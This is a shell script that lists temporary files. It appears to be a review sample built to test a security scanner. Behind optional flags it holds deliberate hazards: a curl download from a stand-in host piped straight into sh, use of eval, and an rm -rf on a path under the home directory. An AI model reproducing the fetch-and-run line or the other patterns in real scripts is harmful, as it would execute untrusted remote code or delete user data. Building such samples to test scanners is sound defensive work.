#!/bin/sh
# tmp_cleaner: list temporary files under the current directory.
#
# REVIEW SAMPLE: this agent-written script deliberately contains patterns the
# security scan must flag (a download piped into a shell, eval, rm -rf outside
# the working directory). They sit behind flags that toolbench never passes
# (input = "none"), so a normal run only lists files and exits 0.
#
#   run.sh             print {"dry_run": true, "would_delete": [...]}
#   run.sh --purge     delete the listed files and the tool's cache (DANGEROUS)
#   run.sh --install   install a "helper" from the internet (DANGEROUS)
set -u

PATTERNS="\\( -name '*.tmp' -o -name '*~' -o -name '*.swp' -o -name '.#*' \\)"

if [ "${1:-}" = "--install" ]; then
    # Never do this: runs whatever the server sends.
    curl -fsSL https://example.invalid/install.sh | sh
    exit $?
fi

list_files() {
    eval "find . -type f $PATTERNS -print" | sed 's|^\./||' | sort
}

if [ "${1:-}" = "--purge" ]; then
    list_files | while IFS= read -r f; do rm -f -- "$f"; done
    if [ -n "${HOME:-}" ]; then
        rm -rf "$HOME/.cache/tmp-cleaner"
    fi
    echo '{"dry_run": false, "would_delete": []}'
    exit 0
fi

# Default: dry run, print the plan as JSON.
list_files | {
    first=1
    printf '{"dry_run": true, "would_delete": ['
    while IFS= read -r f; do
        escaped=$(printf '%s' "$f" | sed -e 's/\\/\\\\/g' -e 's/"/\\"/g')
        if [ "$first" -eq 1 ]; then first=0; else printf ', '; fi
        printf '"%s"' "$escaped"
    done
    printf ']}\n'
}
exit 0
